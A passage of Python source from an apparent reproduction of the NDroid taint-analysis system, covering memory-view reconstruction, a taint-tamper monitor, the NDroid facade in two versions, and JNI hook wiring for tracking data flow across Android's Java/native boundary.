        task = self.memory.read_u32(TASK_LIST_HEAD)
        seen = 0
        while task and seen < self._MAX_TASKS:
            seen += 1
            pid = self.memory.read_u32(task + TASK_PID_OFFSET)
            comm = self.memory.read_cstring(task + TASK_COMM_OFFSET,
                                            limit=16).decode(
                "utf-8", errors="replace")
            process = ProcessView(pid=pid, comm=comm)
            vma = self.memory.read_u32(task + TASK_VMA_OFFSET)
            vma_count = 0
            while vma and vma_count < self._MAX_VMAS:
                vma_count += 1
                name_ptr = self.memory.read_u32(vma + VMA_NAME_OFFSET)
                name = self.memory.read_cstring(name_ptr).decode(
                    "utf-8", errors="replace") if name_ptr else "?"
                flags = self.memory.read_u32(vma + VMA_FLAGS_OFFSET)
                process.vmas.append(VmaView(
                    start=self.memory.read_u32(vma + VMA_START_OFFSET),
                    end=self.memory.read_u32(vma + VMA_END_OFFSET),
                    name=name,
                    third_party=bool(flags & VMA_FLAG_THIRD_PARTY)))
                vma = self.memory.read_u32(vma + VMA_NEXT_OFFSET)
            view.processes.append(process)
            task = self.memory.read_u32(task + TASK_NEXT_OFFSET)
        self._cached = view
        return view

    def view(self) -> OSView:
        if self._cached is None:
            return self.reconstruct()
        return self._cached

    # -- queries NDroid's engines use --------------------------------------------

    def module_base(self, name: str, comm: Optional[str] = None) -> int:
        """Start address of a named module (e.g. ``libdvm.so``)."""
        for process in self.view().processes:
            if comm is not None and process.comm != comm:
                continue
            for vma in process.vmas:
                if vma.name == name:
                    return vma.start
        raise KeyError(f"module {name!r} not found in any memory map")

    def is_third_party(self, address: int) -> bool:
        for process in self.view().processes:
            for vma in process.vmas:
                if vma.contains(address):
                    return vma.third_party
        return False

    def find_vma(self, address: int) -> Optional[VmaView]:
        for process in self.view().processes:
            for vma in process.vmas:
                if vma.contains(address):
                    return vma
        return None
