"""Taint protection (the paper's Section VII extension).

"NDroid can be easily extended to protect taints and prevent evasions
through stack manipulation or trusted function modification, because it
monitors the memory, hooks major file and memory functions, and inspects
every native instruction."

This module implements that extension.  A second per-instruction monitor
watches stores issued by third-party native code and raises a tamper
alert when one targets:

* the **interpreted (DVM) stack** — where TaintDroid keeps its interleaved
  taint tags; an app without root can clear its own labels by scribbling
  there ("an app without root privileges can manipulate the taints in
  DVM"), and
* a **trusted code region** (``libdvm.so``, ``libc.so``, ``libm.so``) —
  patching a hooked function would disable the analysis.

Alerts are events plus :class:`TamperAlert` records; policies decide
whether to just report or also to veto the write by restoring the old
bytes (``mode="restore"``).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.cpu import isa
from repro.cpu.executor import multiple_addresses, transfer_address
from repro.dalvik.stack import DVM_STACK_BASE, DVM_STACK_SIZE
from repro.emulator.emulator import Emulator

TRUSTED_MODULES = ("libdvm.so", "libc.so", "libm.so")


@dataclass
class TamperAlert:
    """One detected tampering attempt."""

    kind: str          # "dvm-stack" or "trusted-code"
    pc: int            # the offending instruction's address
    target: int        # the address being written
    region: str        # name of the attacked region
    restored: bool = False

    def describe(self) -> str:
        action = "blocked" if self.restored else "reported"
        return (f"[{self.kind}] store to 0x{self.target:08x} ({self.region}) "
                f"from native pc=0x{self.pc:08x} — {action}")


class TaintProtection:
    """Write-monitor over third-party native stores."""

    def __init__(self, platform, mode: str = "report") -> None:
        if mode not in ("report", "restore"):
            raise ValueError(f"unknown protection mode {mode!r}")
        self.platform = platform
        self.mode = mode
        self.alerts: List[TamperAlert] = []
        self._trusted_ranges = []
        # (address, original bytes) snapshots to restore before the next
        # instruction executes (the monitor runs pre-execution, so the
        # offending store lands first and is undone one step later).
        self._pending_restores: List[tuple] = []
        self._refresh_trusted_ranges()

    @classmethod
    def attach(cls, platform, mode: str = "report") -> "TaintProtection":
        if platform.ndroid is None:
            raise RuntimeError("TaintProtection extends NDroid; attach "
                               "NDroid first")
        protection = cls(platform, mode=mode)
        platform.emu.add_tracer(protection._monitor)
        platform.event_log.emit("ndroid.protect", "attach",
                                f"taint protection enabled (mode={mode})")
        return protection

    def _refresh_trusted_ranges(self) -> None:
        self._trusted_ranges = [
            (region.start, region.end, region.name)
            for region in self.platform.emu.memory_map
            if region.name in TRUSTED_MODULES
        ]

    # -- the per-instruction monitor ------------------------------------------

    def _monitor(self, ir: isa.Instruction, emu: Emulator) -> None:
        if self._pending_restores:
            for address, snapshot in self._pending_restores:
                emu.memory.write_bytes(address, snapshot)
            self._pending_restores.clear()
        if not isinstance(ir, (isa.LoadStore, isa.LoadStoreMultiple)):
            return
        if getattr(ir, "load", True):
            return
        pc = emu.cpu.pc
        ndroid = self.platform.ndroid
        if not ndroid.view_reconstructor.is_third_party(pc):
            return
        if isinstance(ir, isa.LoadStore):
            address, __ = transfer_address(emu.cpu, ir)
            self._check_store(emu, pc, address, ir.size)
        else:
            for address in multiple_addresses(emu.cpu, ir):
                self._check_store(emu, pc, address, 4)

    def _check_store(self, emu: Emulator, pc: int, address: int,
                     size: int) -> None:
        alert: Optional[TamperAlert] = None
        if DVM_STACK_BASE - DVM_STACK_SIZE <= address < DVM_STACK_BASE:
            alert = TamperAlert(kind="dvm-stack", pc=pc, target=address,
                                region="[dalvik stack]")
        else:
            for start, end, name in self._trusted_ranges:
                if start <= address < end:
                    alert = TamperAlert(kind="trusted-code", pc=pc,
                                        target=address, region=name)
                    break
        if alert is None:
            return
        if self.mode == "restore":
            # Veto: snapshot the bytes now; the monitor restores them
            # before the next instruction executes.
            self._pending_restores.append(
                (address, emu.memory.read_bytes(address, size)))
            alert.restored = True
        self.alerts.append(alert)
        self.platform.event_log.emit(
            "ndroid.protect", "tamper", alert.describe(),
            attack=alert.kind, pc=pc, target=address, region=alert.region,
            restored=alert.restored)

    # -- queries ------------------------------------------------------------------

    def stack_alerts(self) -> List[TamperAlert]:
        return [a for a in self.alerts if a.kind == "dvm-stack"]

    def code_alerts(self) -> List[TamperAlert]:
        return [a for a in self.alerts if a.kind == "trusted-code"]
