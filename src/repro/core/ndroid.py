"""The NDroid facade: wires every engine onto a platform (Fig. 4).

Attachment order mirrors the architecture diagram:

1. reuse (or attach) **TaintDroid** for the Java context — "NDroid employs
   it to run apps and track information flow in the Java context";
2. build the **OS-level view reconstructor** over guest memory;
3. install the **taint engine** as the native-side taint authority for the
   modelled libc and the kernel;
4. attach the **instruction tracer** to the emulator, scoped to
   third-party regions via the reconstructed view;
5. install the **DVM hook engine** (with multilevel hooking) and the
   **system-library hook engine**.
"""

from __future__ import annotations

from collections import defaultdict
from typing import Callable, Dict, Optional, Set

from repro.common.errors import DalvikThrow, ReproError
from repro.common.taint import TAINT_CLEAR, TaintLabel, describe_taint
from repro.core.dvm_hooks import DvmHookEngine
from repro.core.instruction_tracer import InstructionTracer
from repro.core.multilevel import MultilevelHookManager
from repro.core.syslib_hooks import SysLibHookEngine
from repro.core.taint_engine import TaintEngine
from repro.core.view_reconstructor import ViewReconstructor
from repro.taintdroid import TaintDroid


class NDroid:
    """One attached NDroid instance."""

    def __init__(self, platform, use_handler_cache: bool = True,
                 use_multilevel: bool = True) -> None:
        self.platform = platform
        self.taint_engine = TaintEngine(event_log=platform.event_log)
        self.view_reconstructor = ViewReconstructor(platform.memory)
        self.multilevel = MultilevelHookManager(
            platform.jni.symbols, self._branch_from_third_party,
            enabled=use_multilevel)
        self._use_multilevel = use_multilevel
        self.instruction_tracer = InstructionTracer(
            self.taint_engine, self._is_third_party,
            handler_cache=use_handler_cache)
        # Graceful degradation: a faulting hook is quarantined and the
        # engine over-taints instead of unwinding the whole analysis.
        self.degraded_events = 0
        self.quarantined_hooks: Set[str] = set()
        # Per-hook invocation counts, surfaced as core.hook.<name> metrics.
        self.hook_invocations: Dict[str, int] = defaultdict(int)
        self.instruction_tracer.fault_handler = self._on_tracer_fault
        self.dvm_hooks = DvmHookEngine(platform, self.taint_engine,
                                       self.multilevel,
                                       guard=self.guard_hook)
        self.syslib_hooks = SysLibHookEngine(platform, self.taint_engine,
                                             guard=self.guard_hook)
        # Third-party extents at the last refresh_view(); an unchanged set
        # (a warm worker re-hitting a resident library) skips the flush.
        self._third_party_extents: frozenset = frozenset()

    # -- attachment ------------------------------------------------------------

    @classmethod
    def attach(cls, platform, use_handler_cache: bool = True,
               use_multilevel: bool = True) -> "NDroid":
        """Install NDroid on a platform (attaching TaintDroid if absent)."""
        if platform.taintdroid is None:
            TaintDroid.attach(platform)
        system = cls(platform, use_handler_cache=use_handler_cache,
                     use_multilevel=use_multilevel)
        platform.ndroid = system

        # Native-side taint authority for libc and raw syscalls.
        platform.libc.taint_interface = system.taint_engine
        platform.kernel.taint_provider = system.taint_engine.memory_taints

        # Branch events feed the multilevel condition chains.
        platform.emu.add_branch_listener(system.multilevel.on_branch)
        # The instruction tracer sees every instruction; it self-scopes to
        # third-party regions.
        platform.emu.add_tracer(system.instruction_tracer)

        system.dvm_hooks.install()
        system.syslib_hooks.install()

        # Re-introspect whenever the loader maps a new library, so freshly
        # loaded third-party code is traced from its first instruction.
        def on_event(event):
            if event.kind == "loadLibrary":
                system.refresh_view()

        platform.event_log.subscribe(on_event)
        system._on_event = on_event

        observability = getattr(platform, "observability", None)
        if observability is not None:
            observability.wire_ndroid(system)

        platform.event_log.emit("ndroid", "attach",
                                "NDroid instrumentation enabled")
        return system

    def detach(self) -> None:
        """Unsubscribe from the platform's event log (test teardown)."""
        if getattr(self, "_on_event", None) is not None:
            self.platform.event_log.unsubscribe(self._on_event)
            self._on_event = None

    # -- graceful degradation ------------------------------------------------------

    def guard_hook(self, name: str,
                   hook: Callable,
                   fallback: Optional[Callable] = None) -> Callable:
        """Wrap an analysis hook so a fault degrades instead of unwinding.

        A hook that raises any :class:`ReproError` (other than
        :class:`DalvikThrow`, which is simulated Java control flow) is
        **quarantined**: the fault is counted, the taint engine enters
        conservative mode with every label the failed hook could have
        been carrying, and the run continues.  If a ``fallback`` is
        given it runs in place of the quarantined hook on every later
        invocation — sink hooks use this to keep reporting
        conservatively, so degradation never *misses* a leak.  The
        fallback may return an extra :class:`TaintLabel` to join into
        the degradation label.
        """
        def guarded(emu) -> None:
            self.hook_invocations[name] += 1
            if name in self.quarantined_hooks:
                if fallback is not None:
                    self._run_fallback(name, fallback, emu)
                return
            try:
                injector = getattr(emu, "fault_injector", None)
                on_hook = getattr(injector, "on_hook", None)
                if on_hook is not None:
                    on_hook(name, emu.instruction_count)
                hook(emu)
            except DalvikThrow:
                raise
            except ReproError as error:
                self._degrade_hook(name, error, emu, fallback)

        return guarded

    def _run_fallback(self, name: str, fallback: Callable,
                      emu) -> TaintLabel:
        """Run a quarantined hook's conservative stand-in, crash-proof."""
        try:
            label = fallback(emu)
        except ReproError:
            return TAINT_CLEAR
        return label if label is not None else TAINT_CLEAR

    def _degrade_hook(self, name: str, error: ReproError, emu,
                      fallback: Optional[Callable]) -> None:
        self.degraded_events += 1
        self.quarantined_hooks.add(name)
        label = self.taint_engine.live_label()
        if fallback is not None:
            label |= self._run_fallback(name, fallback, emu)
        self.taint_engine.degrade(label)
        self.platform.event_log.emit(
            "ndroid", "hook.degraded",
            f"hook {name} quarantined after {type(error).__name__}: {error} "
            f"(conservative label {describe_taint(label)})",
            hook=name, error=type(error).__name__, label=label)

    def _on_tracer_fault(self, error: ReproError, ir, emu) -> None:
        """A per-instruction taint handler faulted: over-taint, keep going."""
        self.degraded_events += 1
        self.taint_engine.degrade(self.taint_engine.live_label())
        self.platform.event_log.emit(
            "ndroid", "tracer.degraded",
            f"taint handler for {type(ir).__name__} faulted at "
            f"pc=0x{emu.cpu.pc:08x}: {type(error).__name__}: {error}",
            pc=emu.cpu.pc, error=type(error).__name__)

    # -- view plumbing ------------------------------------------------------------

    def _is_third_party(self, address: int) -> bool:
        return self.view_reconstructor.is_third_party(address)

    def _branch_from_third_party(self, address: int) -> bool:
        if not self._use_multilevel:
            return True  # ablation: hook on every invocation
        return self.view_reconstructor.is_third_party(address)

    def refresh_view(self) -> None:
        """Re-introspect after the memory map changed (library load).

        Only an actual change to the third-party region set invalidates:
        a warm worker re-hitting a still-resident library emits the same
        ``loadLibrary`` event a cold load would, but its region was never
        unmapped, so the reconstructed view — and with it the tracer's
        region cache and the warm translation blocks it guards — stays.
        """
        extents = frozenset(
            (region.start, region.end)
            for region in self.platform.emu.memory_map
            if region.third_party)
        if extents == self._third_party_extents:
            return
        self._third_party_extents = extents
        self.view_reconstructor.invalidate()
        self.view_reconstructor.reconstruct()
        self.instruction_tracer.invalidate_region_cache()

    # -- reporting ----------------------------------------------------------------------

    def leaks(self):
        return self.platform.leaks.by_detector("ndroid")

    def tainted_native_deliveries(self):
        """Native invocations that received tainted parameters.

        The Section VI study's intermediate observation: an app can
        "deliver the contact and SMS information to native code" without
        (yet) leaking it.
        """
        return list(self.dvm_hooks.tainted_deliveries)

    def statistics(self) -> Dict[str, int]:
        return {
            "traced_instructions":
                self.instruction_tracer.traced_instructions,
            "tracer_cache_hits": self.instruction_tracer.cache_hits,
            "taint_propagations": self.taint_engine.propagation_count,
            "tainted_bytes": self.taint_engine.tainted_bytes,
            "modelled_calls": self.syslib_hooks.modelled_calls,
            "sink_checks": self.syslib_hooks.sink_checks,
            "source_policies": len(self.dvm_hooks.source_policies),
            "multilevel_checks": self.multilevel.checks,
            "multilevel_fires": self.multilevel.fires,
            "view_reconstructions":
                self.view_reconstructor.reconstructions,
            "degraded_events": self.degraded_events,
            "quarantined_hooks": len(self.quarantined_hooks),
        }
