"""The NDroid facade: wires every engine onto a platform (Fig. 4).

Attachment order mirrors the architecture diagram:

1. reuse (or attach) **TaintDroid** for the Java context — "NDroid employs
   it to run apps and track information flow in the Java context";
2. build the **OS-level view reconstructor** over guest memory;
3. install the **taint engine** as the native-side taint authority for the
   modelled libc and the kernel;
4. attach the **instruction tracer** to the emulator, scoped to
   third-party regions via the reconstructed view;
5. install the **DVM hook engine** (with multilevel hooking) and the
   **system-library hook engine**.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.core.dvm_hooks import DvmHookEngine
from repro.core.instruction_tracer import InstructionTracer
from repro.core.multilevel import MultilevelHookManager
from repro.core.syslib_hooks import SysLibHookEngine
from repro.core.taint_engine import TaintEngine
from repro.core.view_reconstructor import ViewReconstructor
from repro.taintdroid import TaintDroid


class NDroid:
    """One attached NDroid instance."""

    def __init__(self, platform, use_handler_cache: bool = True,
                 use_multilevel: bool = True) -> None:
        self.platform = platform
        self.taint_engine = TaintEngine(event_log=platform.event_log)
        self.view_reconstructor = ViewReconstructor(platform.memory)
        self.multilevel = MultilevelHookManager(
            platform.jni.symbols, self._branch_from_third_party,
            enabled=use_multilevel)
        self._use_multilevel = use_multilevel
        self.instruction_tracer = InstructionTracer(
            self.taint_engine, self._is_third_party,
            handler_cache=use_handler_cache)
        self.dvm_hooks = DvmHookEngine(platform, self.taint_engine,
                                       self.multilevel)
        self.syslib_hooks = SysLibHookEngine(platform, self.taint_engine)

    # -- attachment ------------------------------------------------------------

    @classmethod
    def attach(cls, platform, use_handler_cache: bool = True,
               use_multilevel: bool = True) -> "NDroid":
        """Install NDroid on a platform (attaching TaintDroid if absent)."""
        if platform.taintdroid is None:
            TaintDroid.attach(platform)
        system = cls(platform, use_handler_cache=use_handler_cache,
                     use_multilevel=use_multilevel)
        platform.ndroid = system

        # Native-side taint authority for libc and raw syscalls.
        platform.libc.taint_interface = system.taint_engine
        platform.kernel.taint_provider = system.taint_engine.memory_taints

        # Branch events feed the multilevel condition chains.
        platform.emu.add_branch_listener(system.multilevel.on_branch)
        # The instruction tracer sees every instruction; it self-scopes to
        # third-party regions.
        platform.emu.add_tracer(system.instruction_tracer)

        system.dvm_hooks.install()
        system.syslib_hooks.install()

        # Re-introspect whenever the loader maps a new library, so freshly
        # loaded third-party code is traced from its first instruction.
        def on_event(event):
            if event.kind == "loadLibrary":
                system.refresh_view()

        platform.event_log.subscribe(on_event)
        platform.event_log.emit("ndroid", "attach",
                                "NDroid instrumentation enabled")
        return system

    # -- view plumbing ------------------------------------------------------------

    def _is_third_party(self, address: int) -> bool:
        return self.view_reconstructor.is_third_party(address)

    def _branch_from_third_party(self, address: int) -> bool:
        if not self._use_multilevel:
            return True  # ablation: hook on every invocation
        return self.view_reconstructor.is_third_party(address)

    def refresh_view(self) -> None:
        """Re-introspect after the memory map changed (library load)."""
        self.view_reconstructor.invalidate()
        self.view_reconstructor.reconstruct()
        self.instruction_tracer.invalidate_region_cache()

    # -- reporting ----------------------------------------------------------------------

    def leaks(self):
        return self.platform.leaks.by_detector("ndroid")

    def tainted_native_deliveries(self):
        """Native invocations that received tainted parameters.

        The Section VI study's intermediate observation: an app can
        "deliver the contact and SMS information to native code" without
        (yet) leaking it.
        """
        return list(self.dvm_hooks.tainted_deliveries)

    def statistics(self) -> Dict[str, int]:
        return {
            "traced_instructions":
                self.instruction_tracer.traced_instructions,
            "tracer_cache_hits": self.instruction_tracer.cache_hits,
            "taint_propagations": self.taint_engine.propagation_count,
            "tainted_bytes": self.taint_engine.tainted_bytes,
            "modelled_calls": self.syslib_hooks.modelled_calls,
            "sink_checks": self.syslib_hooks.sink_checks,
            "source_policies": len(self.dvm_hooks.source_policies),
            "multilevel_checks": self.multilevel.checks,
            "multilevel_fires": self.multilevel.fires,
            "view_reconstructions":
                self.view_reconstructor.reconstructions,
        }
