"""NDroid — the paper's contribution.

An efficient dynamic taint analysis system tracking information flows
across the Java/native boundary (JNI) and within native code, layered on
the QEMU-analogue emulator and cooperating with TaintDroid's Java-side
tracking (Section V):

* :mod:`taint_engine` — shadow registers + byte-granular taint map, with a
  shadow store for Java objects keyed by **indirect reference** so taints
  survive the moving GC;
* :mod:`source_policy` — the ``SourcePolicy`` structure and hash map
  (Listing 1) seeding native-side taints when a native method starts;
* :mod:`multilevel` — the T1…T6 condition chain of Fig. 5 gating
  instrumentation on third-party-native provenance;
* :mod:`dvm_hooks` — the DVM hook engine: JNI entry/exit, object creation,
  field access and exception hooks (Tables II-IV);
* :mod:`instruction_tracer` — Table V ARM/Thumb taint propagation with a
  hot-handler cache;
* :mod:`syslib_hooks` — Table VI modelled libc/libm handlers and Table VII
  sink checks;
* :mod:`view_reconstructor` — OS-level view by parsing kernel task structs
  out of raw guest memory;
* :mod:`ndroid` — the facade that wires everything onto a platform.
"""

from repro.core.ndroid import NDroid
from repro.core.source_policy import SourcePolicy, SourcePolicyMap
from repro.core.taint_engine import TaintEngine
from repro.core.view_reconstructor import OSView, ViewReconstructor

__all__ = [
    "NDroid",
    "TaintEngine",
    "SourcePolicy",
    "SourcePolicyMap",
    "ViewReconstructor",
    "OSView",
]
