"""NDroid's DVM hook engine (Section V.B).

Instruments the JNI-related libdvm functions in five groups:

1. **JNI entry** — ``dvmCallJNIMethod``: build a :class:`SourcePolicy`
   from the parameters-and-taints block TaintDroid left in the outs area,
   and seed native-side taints right before the native method's first
   instruction executes.  On exit, overwrite the call bridge's
   taint-if-any-param-tainted return label with the precise shadow-R0
   taint.
2. **JNI exit** — the ``Call*Method*`` family → ``dvmCallMethod*`` →
   ``dvmInterpret``, gated by multilevel hooking: collect argument taints
   from the native side (taint map + iref shadow) and write them into the
   freshly pushed DVM frame slots (which the DVM itself cleared).
3. **Object creation** — NOF/MAF pairs (Table III): taint the new
   String/array object in TaintDroid's format and key its native-side
   shadow by indirect reference.
4. **Field access** — Table IV: bridge taints between shadow registers
   and TaintDroid's interleaved field-taint storage.
5. **Exception** — ``ThrowNew``/``initException``: carry the message
   C-string's taint onto the exception's message String object.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

from repro.common.errors import ReproError
from repro.common.taint import TAINT_CLEAR, TaintLabel, describe_taint
from repro.core.multilevel import MultilevelHookManager
from repro.core.source_policy import SourcePolicy, SourcePolicyMap
from repro.core.taint_engine import TaintEngine
from repro.cpu.state import CpuState
from repro.observability.ledger import Loc
from repro.dalvik.stack import DvmStack
from repro.jni.layer import JniLayer
from repro.jni.slots import JNI_SLOTS

_CALL_METHOD_NAMES = [name for name in JNI_SLOTS
                      if "Method" in name and name.startswith("Call")]
_GET_FIELD_NAMES = [name for name in JNI_SLOTS
                    if name.startswith(("Get", "GetStatic"))
                    and name.endswith("Field")]
_SET_FIELD_NAMES = [name for name in JNI_SLOTS
                    if name.startswith(("Set", "SetStatic"))
                    and name.endswith("Field")]


class DvmHookEngine:
    """Installs and services all DVM-side hooks."""

    def __init__(self, platform, taint_engine: TaintEngine,
                 multilevel: MultilevelHookManager,
                 guard: Optional[Callable] = None) -> None:
        self.platform = platform
        self.emu = platform.emu
        self.jni: JniLayer = platform.jni
        self.taint = taint_engine
        self.multilevel = multilevel
        # Graceful-degradation wrapper (NDroid.guard_hook); identity when
        # the engine is used standalone in tests.
        self._guard = guard if guard is not None else \
            (lambda name, hook, fallback=None: hook)
        self.source_policies = SourcePolicyMap()
        # Provenance ledger (observability); None when not tracing.
        self.ledger = None

        # Per-call state stacks (JNI calls nest).
        self._jni_entry_stack: List[Dict] = []
        self._java_call_taints: List[List[TaintLabel]] = []
        self._pending_creation_taint: Optional[TaintLabel] = None
        self._pending_creation_address: Optional[int] = None
        # (Loc, mechanism) of the native bytes a New* call was built from.
        self._pending_creation_origin = None
        self._pending_string_chars: List[Dict] = []
        self._pending_field_get: List[Dict] = []
        self._pending_throw_taint: Optional[TaintLabel] = None
        self._hooked_native_methods: set = set()

        self.stats = {"jni_entries": 0, "jni_exits": 0, "creations": 0,
                      "field_accesses": 0, "exceptions": 0}
        # Every native invocation that received tainted parameters — the
        # "delivered sensitive data to native code" observation of the
        # paper's Section VI app study.
        self.tainted_deliveries: List[Dict] = []

    def _trace(self, tag: TaintLabel, mechanism: str, src: Loc, dst: Loc,
               location: str = "") -> None:
        if self.ledger is not None:
            self.ledger.record(tag, mechanism, src, dst, location)

    # -- wiring ------------------------------------------------------------------

    def install(self) -> None:
        symbols = self.jni.symbols
        emu = self.emu
        guard = self._guard
        emu.add_entry_hook(symbols["dvmCallJNIMethod"],
                           guard("dvmCallJNIMethod.entry",
                                 self._on_call_jni_entry,
                                 self._jni_entry_fallback))
        emu.add_exit_hook(symbols["dvmCallJNIMethod"],
                          guard("dvmCallJNIMethod.exit",
                                self._on_call_jni_exit))

        # JNI exit: gate dvmCallMethod*/dvmInterpret on native provenance
        # (Fig. 5); register the multilevel chains per Table II.
        for name in _CALL_METHOD_NAMES:
            inner = "dvmCallMethodA" if name.endswith("A") else \
                "dvmCallMethodV"
            self.multilevel.add_chain([name, inner, "dvmInterpret"])
        for inner in ("dvmCallMethodV", "dvmCallMethodA"):
            emu.add_entry_hook(symbols[inner],
                               guard(f"{inner}.entry",
                                     self._make_call_method_hook(inner)))
        emu.add_entry_hook(symbols["dvmInterpret"],
                           guard("dvmInterpret.entry",
                                 self._on_interpret_entry))
        emu.add_exit_hook(symbols["dvmInterpret"],
                          guard("dvmInterpret.exit",
                                self._on_interpret_exit))
        for name in _CALL_METHOD_NAMES:
            emu.add_exit_hook(symbols[name],
                              guard(f"{name}.exit",
                                    self._make_call_method_exit(name)))

        # Object creation (Table III NOF -> MAF pairs).
        for head, tail in (("NewStringUTF", "dvmCreateStringFromCstr"),
                           ("NewString", "dvmCreateStringFromUnicode"),
                           ("NewObject", "dvmAllocObject"),
                           ("NewObjectV", "dvmAllocObject"),
                           ("NewObjectA", "dvmAllocObject"),
                           ("NewObjectArray", "dvmAllocArrayByClass")):
            self.multilevel.add_chain([head, tail])
        emu.add_entry_hook(symbols["NewStringUTF"],
                           guard("NewStringUTF.entry",
                                 self._on_new_string_utf_entry))
        emu.add_exit_hook(symbols["NewStringUTF"],
                          guard("NewStringUTF.exit",
                                self._on_new_string_exit))
        emu.add_entry_hook(symbols["NewString"],
                           guard("NewString.entry",
                                 self._on_new_string_entry))
        emu.add_exit_hook(symbols["NewString"],
                          guard("NewString.exit", self._on_new_string_exit))
        emu.add_exit_hook(symbols["dvmCreateStringFromCstr"],
                          guard("dvmCreateStringFromCstr.exit",
                                self._on_create_string_exit))
        emu.add_exit_hook(symbols["dvmCreateStringFromUnicode"],
                          guard("dvmCreateStringFromUnicode.exit",
                                self._on_create_string_exit))

        # Field access (Table IV).
        for name in _GET_FIELD_NAMES:
            emu.add_entry_hook(symbols[name],
                               guard(f"{name}.entry",
                                     self._make_get_field_entry(name)))
            emu.add_exit_hook(symbols[name],
                              guard(f"{name}.exit",
                                    self._make_get_field_exit(name)))
        for name in _SET_FIELD_NAMES:
            emu.add_entry_hook(symbols[name],
                               guard(f"{name}.entry",
                                     self._make_set_field_hook(name)))

        # String/array data transfer into native memory.
        emu.add_entry_hook(symbols["GetStringUTFChars"],
                           guard("GetStringUTFChars.entry",
                                 self._on_get_string_chars_entry))
        emu.add_exit_hook(symbols["GetStringUTFChars"],
                          guard("GetStringUTFChars.exit",
                                self._on_get_string_chars_exit))
        emu.add_entry_hook(symbols["GetByteArrayRegion"],
                           guard("GetByteArrayRegion.entry",
                                 self._make_get_array_region(1)))
        emu.add_entry_hook(symbols["GetIntArrayRegion"],
                           guard("GetIntArrayRegion.entry",
                                 self._make_get_array_region(4)))
        emu.add_entry_hook(symbols["SetByteArrayRegion"],
                           guard("SetByteArrayRegion.entry",
                                 self._make_set_array_region(1)))
        emu.add_entry_hook(symbols["SetIntArrayRegion"],
                           guard("SetIntArrayRegion.entry",
                                 self._make_set_array_region(4)))

        # Exceptions.
        self.multilevel.add_chain(["ThrowNew", "initException"])
        emu.add_entry_hook(symbols["ThrowNew"],
                           guard("ThrowNew.entry", self._on_throw_new_entry))
        emu.add_exit_hook(symbols["ThrowNew"],
                          guard("ThrowNew.exit", self._on_throw_new_exit))

    # ================================================================ JNI entry

    def _on_call_jni_entry(self, emu) -> None:
        """Step 1: create and populate a SourcePolicy (Section V.B)."""
        args_ptr = emu.cpu.regs[0]
        handle = emu.cpu.regs[2]
        method = self.jni.method_from_handle(handle)
        count = method.ins_size
        taints: List[TaintLabel] = []
        for index in range(count):
            __, taint = DvmStack.read_native_arg(emu.memory, args_ptr, index)
            taints.append(taint)
        self.stats["jni_entries"] += 1

        # Map parameter taints onto JNI argument positions:
        # [env, this|jclass, param0, param1, ...].
        if method.is_static:
            jni_taints = [TAINT_CLEAR, TAINT_CLEAR] + taints
        else:
            jni_taints = [TAINT_CLEAR, taints[0] if taints else TAINT_CLEAR]
            jni_taints += taints[1:]
        register_taints = (jni_taints + [TAINT_CLEAR] * 4)[:4]
        stack_taints = jni_taints[4:]

        policy = SourcePolicy(
            method_address=method.native_address & ~1,
            t_r0=register_taints[0], t_r1=register_taints[1],
            t_r2=register_taints[2], t_r3=register_taints[3],
            stack_args_num=len(stack_taints),
            stack_args_taints=stack_taints,
            method_shorty=method.shorty,
            method_name=method.full_name,
            access_flag=method.access_flags,
            handler=self._source_policy_handler)
        self.source_policies.put(policy)
        self._jni_entry_stack.append({
            "method": method, "args_ptr": args_ptr, "count": count,
            "taints": taints,
        })
        address = method.native_address & ~1
        if address not in self._hooked_native_methods:
            self._hooked_native_methods.add(address)
            emu.add_entry_hook(address,
                               self._guard("SourcePolicy.apply",
                                           self._on_native_method_entry))
        if policy.has_taint():
            union = TAINT_CLEAR
            for taint in taints:
                union |= taint
            self.tainted_deliveries.append({
                "method": method.full_name, "taint": union,
                "class_name": method.class_name,
            })
            self.platform.event_log.emit(
                "ndroid.hook", "SourcePolicy.create",
                f"{method.full_name} shorty={method.shorty} "
                f"taints={[hex(t) for t in taints]}",
                method=method.full_name, shorty=method.shorty,
                insn_addr=address, taints=list(taints),
                class_name=method.class_name)

    def _jni_entry_fallback(self, emu) -> TaintLabel:
        """Quarantine stand-in for the JNI-entry hook.

        Reads whatever parameter taints TaintDroid left in the outs area
        without interpreting the method (the part that faulted) and
        returns their union, so degradation still carries every label
        that crossed the JNI boundary.
        """
        label = TAINT_CLEAR
        args_ptr = emu.cpu.regs[0]
        for index in range(4):
            try:
                __, taint = DvmStack.read_native_arg(emu.memory, args_ptr,
                                                     index)
            except ReproError:
                break
            label |= taint
        return label

    def _on_native_method_entry(self, emu) -> None:
        """Step 2: apply the SourcePolicy right before the first insn."""
        policy = self.source_policies.lookup(emu.cpu.pc)
        if policy is None:
            return
        policy.apply(emu.cpu)

    def _source_policy_handler(self, policy: SourcePolicy,
                               cpu: CpuState) -> None:
        """Initialise registers and memories with proper taint values."""
        for index, label in enumerate(policy.register_taints()):
            self.taint.set_register(index, label)
            if label:
                # The JNI crossing itself: a tainted Java parameter landed
                # in a native register (Fig. 6's dvmCallJNIMethod step).
                self._trace(label, "jni:dvmCallJNIMethod",
                            Loc.java(label), Loc.reg(index),
                            location=policy.method_name)
        for index, label in enumerate(policy.stack_args_taints):
            if label:
                self.taint.set_memory(cpu.sp + 4 * index, 4, label)
                self.taint.log_memory_taint(cpu.sp + 4 * index, label)
                self._trace(label, "jni:dvmCallJNIMethod",
                            Loc.java(label), Loc.mem(cpu.sp + 4 * index, 4),
                            location=policy.method_name)
        # Key object parameters' shadow taints by indirect reference.
        call = self.jni.current_native_call
        if call is not None:
            jni_args = call["jni_args"]
            labels = policy.register_taints() + policy.stack_args_taints
            for value, label in zip(jni_args, labels):
                if label and self.jni.vm.irt.is_indirect(value):
                    self.taint.add_iref(value, label)
                    self._trace(label, "jni:dvmCallJNIMethod",
                                Loc.java(label), Loc.iref(value),
                                location=policy.method_name)
        if policy.has_taint():
            self.platform.event_log.emit(
                "ndroid.hook", "SourcePolicy.apply",
                f"seeded taints at 0x{policy.method_address:08x}",
                address=policy.method_address)

    def _on_call_jni_exit(self, emu) -> None:
        """Overwrite the bridge's policy taint with the precise label."""
        if not self._jni_entry_stack:
            return
        entry = self._jni_entry_stack.pop()
        self.stats["jni_exits"] += 1
        method = entry["method"]
        label = self.taint.get_register(0)
        return_value = emu.cpu.regs[0]
        if method.return_type == "L":
